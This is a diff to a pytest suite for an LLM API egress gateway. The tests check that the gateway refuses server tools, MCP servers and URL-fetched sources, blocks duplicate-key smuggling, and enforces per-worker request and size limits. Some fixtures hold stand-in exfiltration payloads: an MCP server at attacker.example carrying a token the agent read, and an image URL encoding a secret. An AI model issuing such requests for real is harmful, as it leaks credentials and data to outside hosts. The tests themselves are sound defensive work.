@@ -30,7 +30,12 @@ from redis.asyncio import Redis
 from tests.support.fake_anthropic import FakeAnthropic, Recorded
 from tests.support.redis_server import free_port
 from worker_manager.core.keys import Keys
-from worker_manager.egress.gateway import OAUTH_BETA, GatewayWorker, LlmGateway
+from worker_manager.egress.gateway import (
+    MAX_BODY_BYTES_PER_WORKER,
+    OAUTH_BETA,
+    GatewayWorker,
+    LlmGateway,
+)
 from worker_manager.settings import Settings
 
 pytestmark = [pytest.mark.redis]
@@ -122,6 +127,7 @@ async def start_gateway(
         upstream_url: str | None = None,
         session: aiohttp.ClientSession | None = None,
         served: bool = True,
+        max_body_bytes_per_worker: int = MAX_BODY_BYTES_PER_WORKER,
     ) -> Gateway:
         socket = root / f"{len(cleanups)}" / "gateway.sock"
         socket.parent.mkdir()
@@ -139,6 +145,7 @@ async def start_gateway(
             oauth_token=oauth_token,
             resolve=workers.get,
             session=session,
+            max_body_bytes_per_worker=max_body_bytes_per_worker,
         )
         runner = web.AppRunner(gateway.app(), access_log=None)
         await runner.setup()
@@ -264,14 +271,16 @@ async def test_an_oauth_token_goes_as_bearer_with_the_oauth_beta_added(
     async with gw.post(
         "FAKE say oauth",
         token=gw.worker.token,
-        headers={"anthropic-beta": "fine-grained-tool-streaming"},
+        headers={"anthropic-beta": "fine-grained-tool-streaming-2025-05-14"},
     ) as response:
         assert response.status == 200
         await response.read()
     [upstream] = gw.seen()
     assert upstream.headers["authorization"] == "Bearer sk-ant-oat01-operator"
     assert "x-api-key" not in upstream.headers
-    assert upstream.headers["anthropic-beta"] == f"fine-grained-tool-streaming,{OAUTH_BETA}"
+    assert (
+        upstream.headers["anthropic-beta"] == f"fine-grained-tool-streaming-2025-05-14,{OAUTH_BETA}"
+    )
 
 
 async def test_without_a_configured_credential_the_request_goes_without_one(
@@ -672,3 +681,381 @@ async def test_a_path_that_could_climb_out_of_the_base_url_never_leaves_the_gate
     assert answer["type"] == "error" and answer["error"]["type"] == "not_found_error"
     assert gw.fake.calls[calls:] == []
     assert counter("wm_gateway_requests_total", outcome="bad_path") == bad + 1
+
+
+# --- what a body may ask of the API (server tools, MCP servers, fetched sources) ---------------
+def _with(gw: Gateway, **fields: Any) -> dict[str, Any]:
+    return {**gw.body("FAKE say should never be answered"), **fields}
+
+
+def _image(source: dict[str, Any]) -> dict[str, Any]:
+    return {"type": "image", "source": source}
+
+
+#: Each: what is added to a plain request, and what the refusal must name.
+ACTING_FOR_THE_AGENT: dict[str, tuple[dict[str, Any], str]] = {
+    "web-search": (
+        {"tools": [{"type": "web_search_20250305", "name": "web_search", "max_uses": 5}]},
+        "web_search_20250305",
+    ),
+    "web-fetch": (
+        {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
+        "web_fetch_20250910",
+    ),
+    "code-execution": (
+        {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
+        "code_execution_20250825",
+    ),
+    "server-tool-among-client-tools": (
+        {
+            "tools": [
+                {"name": "Bash", "input_schema": {"type": "object"}},
+                {"type": "web_search_20260209", "name": "web_search"},
+            ]
+        },
+        "web_search_20260209",
+    ),
+    "mcp-servers": (
+        {
+            "mcp_servers": [
+                {
+                    "type": "url",
+                    "url": "https://attacker.example/mcp",
+                    "name": "x",
+                    "authorization_token": "whatever-the-agent-read",
+                }
+            ]
+        },
+        "mcp_servers",
+    ),
+    "container": ({"container": "container_011CZ"}, "container"),
+    "image-by-url": (
+        {
+            "messages": [
+                {
+                    "role": "user",
+                    "content": [
+                        _image({"type": "url", "url": "https://attacker.example/?d=secret"}),
+                        {"type": "text", "text": "describe"},
+                    ],
+                }
+            ]
+        },
+        "'url'",
+    ),
+    "document-by-file-id": (
+        {
+            "messages": [
+                {
+                    "role": "user",
+                    "content": [{"type": "document", "source": {"type": "file", "file_id": "f"}}],
+                }
+            ]
+        },
+        "'file'",
+    ),
+    "url-inside-a-tool-result": (
+        {
+            "messages": [
+                {"role": "user", "content": "go"},
+                {
+                    "role": "assistant",
+                    "content": [{"type": "tool_use", "id": "t1", "name": "Read", "input": {}}],
+                },
+                {
+                    "role": "user",
+                    "content": [
+                        {
+                            "type": "tool_result",
+                            "tool_use_id": "t1",
+                            "content": [_image({"type": "url", "url": "https://x.example/a"})],
+                        }
+                    ],
+                },
+            ]
+        },
+        "'url'",
+    ),
+}
+
+
+@pytest.mark.parametrize("path", ["/v1/messages?beta=true", "/v1/messages/count_tokens"])
+@pytest.mark.parametrize("case", sorted(ACTING_FOR_THE_AGENT))
+async def test_a_body_asking_the_api_to_act_for_the_agent_never_reaches_it(
+    start_gateway: GatewayFactory, case: str, path: str
+) -> None:
+    gw = await start_gateway()
+    extra, named = ACTING_FOR_THE_AGENT[case]
+    refused = counter("wm_gateway_requests_total", outcome="refused_body")
+    calls = len(gw.fake.calls)
+    async with gw.client.post(
+        f"http://worker{path}",
+        json=_with(gw, **extra),
+        headers={"anthropic-version": "2023-06-01", "x-api-key": gw.worker.token},
+    ) as response:
+        assert response.status == 403
+        answer = await response.json()
+    assert answer["type"] == "error" and answer["error"]["type"] == "permission_error"
+    assert answer["error"]["message"].startswith("worker-manager: ")
+    assert named in answer["error"]["message"]
+    assert gw.fake.calls[calls:] == []
+    assert counter("wm_gateway_requests_total", outcome="refused_body") == refused + 1
+    assert await gw.usage() == {}
+
+
+async def test_what_is_forwarded_is_the_body_the_gateway_checked(
+    start_gateway: GatewayFactory,
+) -> None:
+    """A duplicate key is read one way by one parser and another way by the next: the gateway
+    sends the JSON it parsed, so the API cannot see a server tool the gateway did not."""
+    gw = await start_gateway()
+    plain = json.dumps(gw.body("FAKE say checked", stream=False))
+    raw = (
+        plain[:-1] + ', "tools": [{"type": "web_search_20250305", "name": "web_search"}]'
+        ', "tools": []}'
+    )
+    async with gw.client.post(
+        "http://worker/v1/messages",
+        data=raw.encode(),
+        headers={
+            "anthropic-version": "2023-06-01",
+            "x-api-key": gw.worker.token,
+            "content-type": "application/json",
+        },
+    ) as response:
+        assert response.status == 200, await response.text()
+    [upstream] = gw.seen()
+    assert upstream.body["tools"] == []
+    assert upstream.raw.count(b'"tools"') == 1
+
+
+async def test_tools_the_client_runs_are_forwarded(start_gateway: GatewayFactory) -> None:
+    gw = await start_gateway()
+    tools = [
+        {"name": "Bash", "description": "run", "input_schema": {"type": "object"}},
+        {"type": "custom", "name": "Read", "input_schema": {"type": "object"}},
+        {"type": "bash_20250124", "name": "bash"},
+        {"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"},
+    ]
+    async with gw.client.post(
+        "http://worker/v1/messages",
+        json={**gw.body("FAKE say client tools"), "tools": tools},
+        headers={"anthropic-version": "2023-06-01", "x-api-key": gw.worker.token},
+    ) as response:
+        assert response.status == 200
+        await response.read()
+    [upstream] = gw.seen()
+    assert upstream.body["tools"] == tools
+
+
+async def test_a_body_that_is_not_a_json_object_is_refused(start_gateway: GatewayFactory) -> None:
+    gw = await start_gateway()
+    for raw in (b"{not json", b"[1, 2]", b"[" * 5_000):
+        async with gw.client.post(
+            "http://worker/v1/messages",
+            data=raw,
+            headers={"x-api-key": gw.worker.token, "content-type": "application/json"},
+        ) as response:
+            assert response.status == 400
+            assert (await response.json())["error"]["type"] == "invalid_request_error"
+    assert gw.seen() == []
+
+
+async def test_beta_flags_off_the_allow_list_do_not_reach_the_api(
+    start_gateway: GatewayFactory,
+) -> None:
+    gw = await start_gateway()
+    async with gw.post(
+        "FAKE say betas",
+        token=gw.worker.token,
+        headers={
+            "anthropic-beta": "mcp-client-2025-11-20, claude-code-20250219,files-api-2025-04-14,"
+            "code-execution-2025-08-25,interleaved-thinking-2025-05-14"
+        },
+    ) as response:
+        assert response.status == 200
+        await response.read()
+    [upstream] = gw.seen()
+    assert upstream.headers["anthropic-beta"] == (
+        "claude-code-20250219,interleaved-thinking-2025-05-14"
+    )
+
+
+@pytest.mark.parametrize("stream", [True, False])
+async def test_server_tool_requests_that_get_through_are_charged(
+    start_gateway: GatewayFactory, stream: bool
+) -> None:
+    """Defence in depth: should the API report web searches, each costs its fee (0.01 USD)."""
+    gw = await start_gateway()
+    async with gw.post(
+        "FAKE tokens 1000\nFAKE searches 3\nFAKE say searched",
+        token=gw.worker.token,
+        stream=stream,
+    ) as response:
+        assert response.status == 200
+        await response.read()
+    usage = await gw.usage_after(1)
+    assert usage["server_tool_requests"] == "3"
+    assert float(usage["cost_usd"]) == pytest.approx(cost(1000, 5) + 0.03)
+
+
+# --- one worker cannot hold the shared gateway (hole g) ----------------------------------------
+@dataclass
+class SharedGateway:
+    """One gateway serving two workers, each on its own socket, as the service does."""
+
+    fake: FakeAnthropic
+    clients: dict[str, aiohttp.ClientSession]
+    workers: dict[str, GatewayWorker]
+
+    def post(self, who: str, prompt: str) -> Any:
+        body = {
+            "model": "claude-sonnet-4-5-20250929",
+            "max_tokens": 64,
+            "stream": True,
+            "messages": [{"role": "user", "content": prompt}],
+        }
+        return self.clients[who].post(
+            "http://worker/v1/messages",
+            json=body,
+            headers={"anthropic-version": "2023-06-01", "x-api-key": self.workers[who].token},
+        )
+
+
+@pytest.fixture
+async def shared_gateway(
+    settings: Settings, redis: Redis, fake_anthropic: FakeAnthropic
+) -> AsyncIterator[SharedGateway]:
+    root = Path(tempfile.mkdtemp(prefix="wm-gw-"))
+    served: dict[str, GatewayWorker] = {}
+    workers: dict[str, GatewayWorker] = {}
+    # A pool of 24 upstream connections for all (the service's is 1 024): more than one
+    # worker's bound (16) and fewer than one worker could otherwise take.
+    session = aiohttp.ClientSession(connector=aiohttp.TCPConnector(limit=24))
+    gateway = LlmGateway(
+        redis=redis,
+        upstream_url=fake_anthropic.url,
+        api_key=SecretStr(OPERATOR_KEY),
+        oauth_token=None,
+        resolve=served.get,
+        session=session,
+    )
+    runner = web.AppRunner(gateway.app(), access_log=None)
+    await runner.setup()
+    clients: dict[str, aiohttp.ClientSession] = {}
+    for who in ("greedy", "other"):
+        socket = root / f"{who}.sock"
+        workers[who] = served[str(socket)] = GatewayWorker(
+            worker_id=f"w-{who}-{secrets.token_hex(4)}",
+            key_prefix=settings.key_prefix,
+            token=f"wm-gw-{secrets.token_urlsafe(24)}",
+            max_cost_usd=None,
+        )
+        await web.UnixSite(runner, str(socket)).start()
+        clients[who] = aiohttp.ClientSession(
+            connector=aiohttp.UnixConnector(path=str(socket), limit=0),
+            timeout=aiohttp.ClientTimeout(total=None),
+        )
+    try:
+        yield SharedGateway(fake_anthropic, clients, workers)
+    finally:
+        for client in clients.values():
+            await client.close()
+        await runner.cleanup()
+        await session.close()
+        shutil.rmtree(root, ignore_errors=True)
+
+
+async def _open_streams(
+    gw: SharedGateway, who: str, prompt: str, count: int
+) -> list[aiohttp.ClientResponse]:
+    """``count`` requests of ``who`` at once, each until its answer's status is in (bounded:
+    a request that waits for an upstream connection without end fails the test)."""
+    async with asyncio.timeout(10):
+        return list(
+            await asyncio.gather(*(gw.post(who, prompt).__aenter__() for _ in range(count)))
+        )
+
+
+async def test_one_worker_with_many_requests_at_once_does_not_hold_up_another(
+    shared_gateway: SharedGateway,
+) -> None:
+    gw = shared_gateway
+    gate = f"greedy-{secrets.token_hex(4)}"
+    too_many = counter("wm_gateway_requests_total", outcome="too_many")
+    # 30 streams held open by the API (they wait at the gate): without a per-worker bound they
+    # take all 24 pooled connections and the other worker waits for one without end.
+    held: list[aiohttp.ClientResponse] = []
+    try:
+        held = await _open_streams(gw, "greedy", f"FAKE gate {gate}\nFAKE say held", 30)
+        statuses = sorted(r.status for r in held)
+        assert statuses == [200] * 16 + [429] * 14, statuses
+        refusal = await next(r for r in held if r.status == 429).json()
+        assert refusal["error"]["type"] == "rate_limit_error"
+        assert "16 requests in flight" in refusal["error"]["message"]
+        assert counter("wm_gateway_requests_total", outcome="too_many") == too_many + 14
+        async with asyncio.timeout(10):
+            async with gw.post("other", "FAKE say not held up") as response:
+                assert response.status == 200
+                assert b"not held up" in await response.read()
+    finally:
+        gw.fake.open_gate(gate)
+        for response in held:
+            response.release()
+
+
+async def test_answers_a_worker_hung_up_on_count_against_its_bound_until_they_end(
+    shared_gateway: SharedGateway,
+) -> None:
+    gw = shared_gateway
+    gate = f"drain-{secrets.token_hex(4)}"
+    try:
+        held = await _open_streams(gw, "greedy", f"FAKE gate {gate}\nFAKE say drained", 16)
+        assert [r.status for r in held] == [200] * 16
+        for response in held:
+            await response.content.readline()  # the answer has begun
+            response.close()  # the worker hangs up; the gateway reads the answer on
+        # Still 16 answers being read for it: no 17th.
+        async with asyncio.timeout(10), gw.post("greedy", "FAKE say one more") as response:
+            assert response.status == 429
+    finally:
+        gw.fake.open_gate(gate)
+    # The drained answers end; its requests are taken again.
+    async with asyncio.timeout(10):
+        while True:
+            async with gw.post("greedy", "FAKE say one more") as response:
+                if response.status == 200:
+                    break
+                assert response.status == 429
+            await asyncio.sleep(0.02)
+
+
+async def test_a_body_larger_than_the_apis_limit_is_refused_in_its_shape(
+    start_gateway: GatewayFactory,
+) -> None:
+    gw = await start_gateway()
+    body = b'{"model": "x", "messages": [], "pad": "' + b"a" * (33 * 1024 * 1024) + b'"}'
+    async with gw.client.post(
+        "http://worker/v1/messages",
+        data=body,
+        headers={"x-api-key": gw.worker.token, "content-type": "application/json"},
+    ) as response:
+        assert response.status == 413
+        answer = await response.json()
+    assert answer["error"]["type"] == "request_too_large"
+    assert "32 MiB" in answer["error"]["message"]
+    assert gw.seen() == []
+
+
+async def test_a_worker_past_its_body_bytes_at_once_is_told_to_retry(
+    start_gateway: GatewayFactory,
+) -> None:
+    gw = await start_gateway(max_body_bytes_per_worker=256 * 1024)
+    too_many = counter("wm_gateway_requests_total", outcome="too_many")
+    prompt = "FAKE say big\n" + "x" * (300 * 1024)
+    async with gw.post(prompt, token=gw.worker.token) as response:
+        assert response.status == 429
+        assert (await response.json())["error"]["type"] == "rate_limit_error"
+    assert counter("wm_gateway_requests_total", outcome="too_many") == too_many + 1
+    async with gw.post("FAKE say small", token=gw.worker.token) as response:
+        assert response.status == 200
